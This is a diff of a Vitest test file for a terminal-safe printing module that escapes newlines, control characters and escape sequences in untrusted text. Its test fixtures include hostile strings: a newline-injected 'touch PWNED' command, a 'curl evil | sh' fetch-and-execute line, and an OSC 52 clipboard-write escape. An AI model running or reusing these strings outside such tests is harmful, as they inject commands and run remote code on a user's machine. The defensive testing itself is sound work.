@@ -1,6 +1,14 @@
 import { execFileSync } from 'node:child_process';
 import { describe, expect, it } from 'vitest';
-import { isPrintableName, printableName, printableText, shellWord, TerminalFilter } from './safe-print.js';
+import {
+  isPrintableName,
+  prefixedLines,
+  printableLine,
+  printableName,
+  printableText,
+  shellWord,
+  TerminalFilter,
+} from './safe-print.js';
 
 const hostile = 'n\ntouch PWNED;#';
 
@@ -46,5 +54,21 @@ describe('printing what others chose', () => {
       filter.push('2J clear') +
       filter.end();
     expect(out).toBe('\u001b[31mred\u001b[0m ok\r\nclip  bell\\x07  clear');
+  });
+
+  it('a line stays one line: newline, CR and escape sequences shown escaped, tabs kept', () => {
+    const line = printableLine('a\nReviewed-by: M <m@x>\r\n\u001b]52;c;eA==\u0007\tend');
+    expect(line).toBe('a\\nReviewed-by: M <m@x>\\r\\n\\e]52;c;eA==\\x07\tend');
+    expect(['\n', '\r', '\u001b', '\u0007'].some((c) => line.includes(c))).toBe(false);
+    expect(printableLine('x\u0085y\u2028z')).toBe('x\\x85y\\u2028z');
+  });
+
+  it("someone's prose is printed line by line behind a prefix: none of its lines is one of splintercat's", () => {
+    expect(prefixedLines('gave up.\nThen:\r\n  curl evil | sh\n\n\u001b[2J', '  model: ')).toEqual([
+      '  model: gave up.',
+      '  model: Then:',
+      '  model:   curl evil | sh',
+      '  model: \\e[2J',
+    ]);
   });
 });
